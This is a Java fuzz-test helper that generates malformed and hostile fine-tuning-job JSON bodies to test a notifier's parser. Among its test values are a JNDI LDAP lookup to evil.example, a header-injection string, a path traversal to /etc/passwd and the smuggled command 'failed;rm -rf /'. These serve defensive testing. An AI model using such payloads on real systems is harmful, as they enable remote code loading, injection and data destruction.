package dev.ftnotifier.fuzz;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ArrayNode;
import com.fasterxml.jackson.databind.node.ObjectNode;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;

/**
 * Malformed and hostile {@code fine_tuning.job} bodies, all about the job {@link #ID}: every field
 * of the wrong type, null, huge, deeply nested, full of control characters, duplicated, out of range;
 * statuses that try to be paths or headers; broken JSON; and seeded random mutations of valid jobs.
 * Values are planted as raw JSON text, so numbers such as {@code 1e400} reach the parser as sent.
 */
final class HostileJobs {

    /** The job every body claims to be; {@link #withId} moves a body to another id. */
    static final String ID = "ftjob-fuzz";

    /** One body and what it is, for the report. */
    record Case(String name, String body) {

        Case withId(String id) {
            return new Case(name, body.replace(ID, id));
        }

        /** The name, cut for a report: some values are a megabyte long. */
        String shortName() {
            String printable = name.replaceAll("\\p{Cntrl}", "?");
            return printable.length() > 120 ? printable.substring(0, 120) + "..." : printable;
        }
    }

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final String HOLE = "@@FUZZ_VALUE@@";
    private static final String MEGABYTE = "m".repeat(1024 * 1024);

    /** A job of each status family, every optional part filled, so every path below exists in each. */
    private static final List<String> BASES = List.of(
            base("failed", """
                    "finished_at": 1714558523, "fine_tuned_model": null, "trained_tokens": null, "estimated_finish": null,
                    "error": {"code": "invalid_n_examples", "message": "Training file has 5 examples", "param": "training_file"}"""),
            base("succeeded", """
                    "finished_at": 1714553723, "fine_tuned_model": "ft:gpt-4o-mini-2024-07-18:acme::9abcDEF",
                    "trained_tokens": 123456, "estimated_finish": 0, "error": {"code": null, "message": null, "param": null}"""),
            base("cancelled", """
                    "finished_at": 1714551000, "fine_tuned_model": null, "trained_tokens": null, "estimated_finish": null,
                    "error": {}"""),
            base("running", """
                    "finished_at": null, "fine_tuned_model": null, "trained_tokens": null, "estimated_finish": 1714560000,
                    "error": {"code": null, "message": null, "param": null}"""));

    private static String base(String status, String statusFields) {
        return """
                {"object": "fine_tuning.job", "id": "%s", "model": "gpt-4o-mini-2024-07-18", "created_at": 1714550000,
                 "status": "%s", %s,
                 "organization_id": "org-fuzz", "result_files": ["file-res1", "file-res2"],
                 "training_file": "file-train", "validation_file": "file-valid", "seed": 42,
                 "hyperparameters": {"batch_size": "auto", "learning_rate_multiplier": 1.8, "n_epochs": 3},
                 "method": {"type": "supervised", "supervised": {"hyperparameters": {"batch_size": "auto", "n_epochs": 3}}},
                 "integrations": [{"type": "wandb", "wandb": {"project": "proj", "name": "run-1", "entity": "team", "tags": ["a"]}}],
                 "metadata": {"env": "prod"}, "user_provided_suffix": "demo"}""".formatted(ID, status, statusFields);
    }

    static final List<String> PATHS = List.of(
            "id", "object", "created_at", "error", "fine_tuned_model", "finished_at", "hyperparameters", "model",
            "organization_id", "result_files", "status", "trained_tokens", "training_file", "validation_file",
            "integrations", "seed", "estimated_finish", "method", "metadata", "user_provided_suffix",
            "error/code", "error/message", "error/param",
            "hyperparameters/batch_size", "hyperparameters/learning_rate_multiplier", "hyperparameters/n_epochs",
            "result_files/0", "integrations/0", "integrations/0/type", "integrations/0/wandb",
            "integrations/0/wandb/project", "integrations/0/wandb/name", "integrations/0/wandb/entity",
            "integrations/0/wandb/tags", "integrations/0/wandb/tags/0", "metadata/env", "method/type");

    static final List<String> STRING_PATHS = List.of(
            "id", "object", "fine_tuned_model", "model", "organization_id", "status", "training_file", "validation_file",
            "user_provided_suffix", "error/code", "error/message", "error/param", "hyperparameters/batch_size",
            "result_files/0", "integrations/0/type", "integrations/0/wandb/project", "integrations/0/wandb/name",
            "integrations/0/wandb/entity", "integrations/0/wandb/tags/0", "metadata/env", "method/type");

    static final List<String> NUMBER_PATHS = List.of(
            "created_at", "finished_at", "trained_tokens", "seed", "estimated_finish",
            "hyperparameters/n_epochs", "hyperparameters/learning_rate_multiplier", "hyperparameters/batch_size");

    /** Each field as every other JSON type. */
    static final List<String> WRONG_TYPES = List.of(
            "\"123\"", "123", "-1", "1.5", "true", "false", "null", "{}", "[]", "[1,\"a\",null]",
            "{\"a\":{\"b\":1}}", "\"\"", "\"auto\"", "[null]");

    /** Control characters, line breaks, bidi overrides, lone surrogates, markup that means something somewhere. */
    static final List<String> NASTY_STRINGS = List.of(
            "\"\\u0000\"", "\"a\\u0000b\"", "\"\\r\\n\"", "\"x\\r\\nBcc: victim@example.com\"", "\"\\u202egnp.exe\"",
            "\"\\ud83d\\ude00\"", "\"\\ud800\"", "\"\\udfff x\"", "\"\\u0007\\u001b[31m\"", "\"\\t\"", "\"\\u2028\\u2029\"",
            "\"<!channel> @here <https://evil.example|click>\"", "\"${jndi:ldap://evil.example/x}\"",
            "\"{{#job}}{{/job}}{{{raw}}}\"", "\"../../etc/passwd\"", "\"%s%n%x\"", "\"\\ufeff\"", "\"caf\u00e9 \u2713 \u4e2d\"");

    /** Numbers a long, an Instant, a double or a parser may not hold. */
    static final List<String> NUMBERS = List.of(
            "1e400", "-1e400", "1e-400", "-1", "0", "-0", "0.5", "1E2",
            "9223372036854775807", "9223372036854775808", "-9223372036854775808", "-9223372036854775809",
            "253402300800", "31556889864403200", "-31557014167219201", "1.0e18",
            "12345678901234567890123456789", "1.7976931348623157e308", "1" + "0".repeat(1200));

    static final List<String> STATUSES = List.of(
            "../../x", "", " ", "FAILED", "failed\\r\\n", "Failed", " cancelled ", "SUCCEEDED", "\\u0000",
            "succeeded\\u0000", "\u017fucceeded", "\u212aelvin", "\u0130", "x".repeat(1000), "running", "paused",
            "pausing", "validating_files", "queued", "new-status", "\ud83d\udca5", "failed;rm -rf /", "null",
            "a/b\\\\c", "<b>failed</b>", "\\t\\tqueued", "cancel\\u200bled");

    private HostileJobs() {
    }

    /** Every deterministic case, then {@code randomMutations} seeded random mutations of the bases. */
    static List<Case> corpus(long seed, int randomMutations) {
        List<Case> cases = new ArrayList<>();
        for (int b = 0; b < BASES.size(); b++) {
            String base = BASES.get(b);
            String family = statusOf(base);
            cases.add(new Case("valid:" + family, base));
            for (String path : PATHS) {
                for (String value : WRONG_TYPES) {
                    cases.add(new Case("type:" + family + ":" + path + "=" + value, plant(base, path, value)));
                }
                cases.add(new Case("absent:" + family + ":" + path, remove(base, path)));
            }
            for (String path : STRING_PATHS) {
                for (String value : NASTY_STRINGS) {
                    cases.add(new Case("text:" + family + ":" + path + "=" + value, plant(base, path, value)));
                }
            }
            for (String path : NUMBER_PATHS) {
                for (String value : NUMBERS) {
                    cases.add(new Case("number:" + family + ":" + path + "=" + value, plant(base, path, value)));
                }
            }
            for (String status : STATUSES) {
                cases.add(new Case("status:" + family + ":" + status, plant(base, "status", "\"" + status + "\"")));
            }
        }
        String running = BASES.get(3);
        String failed = BASES.get(0);
        // one megabyte in every string field, spread over the bases
        for (int i = 0; i < STRING_PATHS.size(); i++) {
            String base = BASES.get(i % BASES.size());
            cases.add(new Case("huge:" + statusOf(base) + ":" + STRING_PATHS.get(i),
                    plant(base, STRING_PATHS.get(i), "\"" + MEGABYTE + "\"")));
        }
        cases.add(new Case("huge:failed:error/message=1MB of CR LF", plant(failed, "error/message",
                "\"" + "\\r\\n".repeat(256 * 1024) + "\"")));
        cases.add(new Case("huge:running:result_files=100000 ids", plant(running, "result_files",
                "[" + "\"file-x\",".repeat(100_000) + "\"file-y\"]")));
        cases.add(new Case("huge:running:metadata=50000 pairs", plant(running, "metadata",
                "{" + String.join(",", java.util.stream.IntStream.range(0, 50_000).mapToObj(i -> "\"k" + i + "\":\"v\"").toList()) + "}")));
        cases.addAll(nesting());
        cases.addAll(duplicates());
        cases.addAll(broken());
        cases.addAll(mutations(seed, randomMutations));
        return cases;
    }

    /** Ten thousand levels of {@code [} or {@code {}, and the limits around Jackson's default depth of 1000. */
    private static List<Case> nesting() {
        List<Case> cases = new ArrayList<>();
        for (String path : List.of("method", "metadata", "error", "hyperparameters", "integrations", "result_files",
                "error/message", "hyperparameters/n_epochs", "brand_new_field")) {
            for (String base : List.of(BASES.get(0), BASES.get(3))) {
                String family = statusOf(base);
                cases.add(new Case("deep:" + family + ":" + path + "=10000 [", plantOrAdd(base, path, arrays(10_000))));
                cases.add(new Case("deep:" + family + ":" + path + "=10000 {", plantOrAdd(base, path, objects(10_000))));
                cases.add(new Case("deep:" + family + ":" + path + "=10000 [ unclosed", plantOrAdd(base, path, "[".repeat(10_000))));
            }
        }
        // around the limit: the value sits one level below the job object
        for (int depth : new int[] {997, 998, 999, 1000, 1001}) {
            for (String base : BASES) {
                cases.add(new Case("deep:" + statusOf(base) + ":method=" + depth + " [", plant(base, "method", arrays(depth))));
                cases.add(new Case("deep:" + statusOf(base) + ":brand_new_field=" + depth + " {",
                        plantOrAdd(base, "brand_new_field", objects(depth))));
            }
        }
        cases.add(new Case("deep:body=10000 [", arrays(10_000)));
        cases.add(new Case("deep:body=10000 {", objects(10_000)));
        cases.add(new Case("deep:body=100000 [ unclosed", "[".repeat(100_000)));
        return cases;
    }

    private static String arrays(int depth) {
        return "[".repeat(depth) + "]".repeat(depth);
    }

    private static String objects(int depth) {
        return "{\"a\":".repeat(depth - 1) + "{}" + "}".repeat(depth - 1);
    }

    /** The same key twice: which one wins must not let a body claim another job or status unnoticed. */
    private static List<Case> duplicates() {
        List<Case> cases = new ArrayList<>();
        for (String base : BASES) {
            String family = statusOf(base);
            String inner = base.substring(base.indexOf('{') + 1);
            cases.add(new Case("dup:" + family + ":id other first", "{\"id\": \"ftjob-other\", " + inner));
            cases.add(new Case("dup:" + family + ":id other last", base.substring(0, base.lastIndexOf('}')) + ", \"id\": \"ftjob-other\"}"));
            cases.add(new Case("dup:" + family + ":status failed first", "{\"status\": \"failed\", " + inner));
            cases.add(new Case("dup:" + family + ":status succeeded last",
                    base.substring(0, base.lastIndexOf('}')) + ", \"status\": \"succeeded\"}"));
            cases.add(new Case("dup:" + family + ":error twice", base.substring(0, base.lastIndexOf('}'))
                    + ", \"error\": {\"code\": \"c2\", \"code\": \"c3\", \"message\": null}}"));
            for (String path : List.of("id", "status", "created_at", "error", "result_files", "metadata", "method")) {
                for (String value : List.of("null", "[]", "{}", "\"x\"", "1e400")) {
                    cases.add(new Case("dup:" + family + ":" + path + "=" + value + " first",
                            "{\"" + path + "\": " + value + ", " + inner));
                }
            }
        }
        return cases;
    }

    /** Bodies that are not a job, or not JSON. */
    private static List<Case> broken() {
        String valid = BASES.get(1);
        List<Case> cases = new ArrayList<>();
        for (String body : List.of("", " ", "\n", "null", "true", "1", "-0", "\"ftjob-fuzz\"", "[]", "{}", "[{}]", "{",
                "}", "[", "<html><body>502 Bad Gateway</body></html>", "{'id':'ftjob-fuzz','status':'failed'}",
                "{id: \"ftjob-fuzz\", status: \"failed\"}", "{\"id\":\"ftjob-fuzz\"}", "{\"status\":\"failed\"}",
                "{\"id\":\"ftjob-fuzz\",\"status\":\"failed\"}", "{\"id\":\"ftjob-fuzz\",\"status\":\"failed\",}",
                "{\"id\":\"ftjob-fuzz\",\"status\":NaN}", "{\"id\":\"ftjob-fuzz\",\"status\":\"failed\",\"seed\":NaN}",
                "{\"id\":\"ftjob-fuzz\",\"status\":\"failed\" /* comment */}", "\u0000", "{\"id\":\"ftjob-fuzz\",\"status\":\"r\u0000\"}",
                "[" + valid + "]", "{\"object\":\"list\",\"data\":[" + valid + "],\"has_more\":false}",
                "{\"error\":{\"message\":\"x\",\"type\":\"server_error\",\"param\":null,\"code\":null}}",
                "\ufeff" + valid, valid + " trailing garbage", valid + valid, valid + "}", valid + "\u0000",
                valid.replace("\"fine_tuning.job\"", "\"fine_tuning.job.event\""),
                valid.replace("\"fine_tuning.job\"", "\"list\""),
                valid.replace("\"id\": \"" + ID + "\"", "\"id\": \"" + ID.toUpperCase() + "\""),
                valid.replace("\"id\": \"" + ID + "\"", "\"id\": \" " + ID + "\""),
                valid.replace("\"id\": \"" + ID + "\"", "\"id\": \"" + ID + "\\u0000\""))) {
            cases.add(new Case("broken:" + body, body));
        }
        for (int cut = 1; cut < valid.length(); cut += Math.max(1, valid.length() / 25)) {
            cases.add(new Case("broken:truncated at " + cut, valid.substring(0, cut)));
        }
        return cases;
    }

    private static final List<String> INSERTS = List.of("{", "}", "[", "]", "\"", ",", ":", "\\", "null", "-", "1e999",
            "\u0000", "\\u0000", "\\ud800", "\"status\":\"failed\",", "\"id\":\"" + ID + "\",", "\"error\":null,", "\r\n",
            "\"x\":[[[[[[[[[[]]]]]]]]]],", "9223372036854775808");

    /** Seeded random edits of the bases, in the text and in the tree: reproducible from the seed alone. */
    static List<Case> mutations(long seed, int count) {
        Random random = new Random(seed);
        List<String> pool = new ArrayList<>();
        pool.addAll(WRONG_TYPES);
        pool.addAll(NASTY_STRINGS);
        pool.addAll(NUMBERS);
        List<Case> cases = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            String body = BASES.get(random.nextInt(BASES.size()));
            StringBuilder what = new StringBuilder("random#" + i + ":");
            int edits = 1 + random.nextInt(4);
            for (int e = 0; e < edits; e++) {
                int at = random.nextInt(body.length());
                switch (random.nextInt(6)) {
                    case 0 -> {
                        int end = Math.min(body.length(), at + 1 + random.nextInt(5));
                        body = body.substring(0, at) + body.substring(end);
                        what.append(" delete@").append(at);
                    }
                    case 1 -> {
                        String insert = INSERTS.get(random.nextInt(INSERTS.size()));
                        body = body.substring(0, at) + insert + body.substring(at);
                        what.append(" insert@").append(at);
                    }
                    case 2 -> {
                        int end = Math.min(body.length(), at + 1 + random.nextInt(40));
                        int to = random.nextInt(body.length());
                        body = body.substring(0, to) + body.substring(at, end) + body.substring(to);
                        what.append(" copy@").append(at).append('>').append(to);
                    }
                    case 3 -> {
                        char c = (char) random.nextInt(0x80);
                        body = body.substring(0, at) + c + body.substring(Math.min(body.length(), at + 1));
                        what.append(" replace@").append(at);
                    }
                    default -> {
                        // in the tree: a field or an element gets a hostile value, or goes
                        String path = PATHS.get(random.nextInt(PATHS.size()));
                        if (isObject(body)) {
                            if (random.nextInt(5) == 0) {
                                body = remove(body, path);
                                what.append(" remove ").append(path);
                            } else {
                                body = plant(body, path, pool.get(random.nextInt(pool.size())));
                                what.append(" set ").append(path);
                            }
                        }
                    }
                }
            }
            cases.add(new Case(what.toString(), body));
        }
        return cases;
    }

    private static boolean isObject(String body) {
        try {
            return JSON.readTree(body) instanceof ObjectNode;
        } catch (JsonProcessingException e) {
            return false;
        }
    }

    private static String statusOf(String base) {
        try {
            return JSON.readTree(base).get("status").asText();
        } catch (JsonProcessingException e) {
            throw new IllegalStateException(e);
        }
    }

    /** {@code body} with the value at {@code path} (a/b/0) replaced by the raw JSON text {@code value}; unchanged if the path is gone. */
    static String plant(String body, String path, String value) {
        try {
            JsonNode root = JSON.readTree(body);
            if (!set(root, path)) {
                return body;
            }
            return JSON.writeValueAsString(root).replace("\"" + HOLE + "\"", value);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    /** Like {@link #plant}, but adds a top-level field when the path does not exist. */
    private static String plantOrAdd(String body, String path, String value) {
        String planted = plant(body, path, value);
        if (!planted.equals(body)) {
            return planted;
        }
        return body.substring(0, body.lastIndexOf('}')) + ", \"" + path + "\": " + value + "}";
    }

    private static boolean set(JsonNode root, String path) {
        String[] steps = path.split("/");
        JsonNode parent = root;
        for (int i = 0; i < steps.length - 1; i++) {
            parent = child(parent, steps[i]);
            if (parent == null) {
                return false;
            }
        }
        String last = steps[steps.length - 1];
        if (parent instanceof ObjectNode object && object.has(last)) {
            object.put(last, HOLE);
            return true;
        }
        if (parent instanceof ArrayNode array && last.matches("\\d+") && Integer.parseInt(last) < array.size()) {
            array.set(Integer.parseInt(last), HOLE);
            return true;
        }
        return false;
    }

    static String remove(String body, String path) {
        try {
            JsonNode root = JSON.readTree(body);
            String[] steps = path.split("/");
            JsonNode parent = root;
            for (int i = 0; i < steps.length - 1 && parent != null; i++) {
                parent = child(parent, steps[i]);
            }
            String last = steps[steps.length - 1];
            if (parent instanceof ObjectNode object) {
                object.remove(last);
            } else if (parent instanceof ArrayNode array && last.matches("\\d+") && Integer.parseInt(last) < array.size()) {
                array.remove(Integer.parseInt(last));
            }
            return JSON.writeValueAsString(root);
        } catch (JsonProcessingException e) {
            throw new IllegalArgumentException(e);
        }
    }

    private static JsonNode child(JsonNode node, String step) {
        if (node instanceof ObjectNode object) {
            return object.get(step);
        }
        if (node instanceof ArrayNode array && step.matches("\\d+")) {
            return array.get(Integer.parseInt(step));
        }
        return null;
    }
}
